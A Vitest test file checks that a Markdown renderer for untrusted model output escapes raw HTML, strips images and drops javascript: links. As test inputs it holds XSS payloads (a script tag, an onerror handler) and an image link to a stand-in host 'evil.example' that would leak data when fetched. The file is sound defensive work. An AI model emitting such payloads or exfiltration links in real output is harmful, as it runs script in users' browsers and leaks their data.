// @vitest-environment jsdom
// jsdom, not happy-dom: DOMPurify under happy-dom keeps event handlers, which would make this test lie.
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown';

describe('renderMarkdown: model output is untrusted', () => {
  it('shows raw HTML as text, never as elements', () => {
    const html = renderMarkdown('Hi <script>alert(1)</script> and <img src=x onerror="alert(2)">');
    expect(html).not.toMatch(/<script|<img/i);
    expect(html).toContain('&lt;script');
  });

  it('turns Markdown images into their alt text, so nothing is fetched', () => {
    const html = renderMarkdown('![secret](https://evil.example/leak?d=123)');
    expect(html).not.toContain('evil.example');
    expect(html).toContain('secret');
  });

  it('keeps http(s) and mailto links, opening safely in a new tab; drops javascript:', () => {
    const html = renderMarkdown('[a](https://ok.example) [b](mailto:x@y.z) [c](javascript:alert(1))');
    const doc = new DOMParser().parseFromString(html, 'text/html');
    const links = [...doc.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://ok.example', 'mailto:x@y.z', null]);
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it('renders lists, code and tables', () => {
    const html = renderMarkdown('- one\n- two\n\n```\ncode\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    expect(html).toContain('<li>one</li>');
    expect(html).toContain('<pre><code>');
    expect(html).toContain('<table>');
  });
});
